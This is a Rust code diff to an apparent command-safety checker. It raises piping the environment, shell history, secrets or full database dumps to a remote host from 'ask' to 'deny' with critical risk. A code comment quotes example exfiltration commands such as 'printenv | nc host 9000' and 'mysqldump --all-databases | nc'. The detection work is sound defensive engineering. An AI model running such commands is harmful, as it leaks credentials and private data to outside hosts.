@@ -532,12 +532,21 @@ fn line_rules(a: &Analysis, parts: &mut [Judged]) {
             && !judge::is_shell(name(x))
             && let Some(j) = parts.get_mut(y)
         {
+            // `printenv | nc host 9000`, `history | nc ...`, `mysqldump --all-databases | nc ...`:
+            // the environment, the user's traces or every database leave.
+            let (_, secret, _) = judge::carried_data(cx);
+            let leaks = (secret && !matches!(name(x), "uname" | "whoami" | "id"))
+                || judge::dumps_everything(cx);
             j.findings.push(Finding {
                 rule: "net.upload-pipe",
-                decision: Decision::Ask,
-                risk: Risk::High,
+                decision: if leaks { Decision::Deny } else { Decision::Ask },
+                risk: if leaks { Risk::Critical } else { Risk::High },
                 caps: Capabilities::NETWORK_UPLOAD,
-                reason: "sends local data to a remote host",
+                reason: if leaks {
+                    "sends the environment, shell history, secrets or every database to a remote host"
+                } else {
+                    "sends local data to a remote host"
+                },
                 alternative: None,
             });
         }
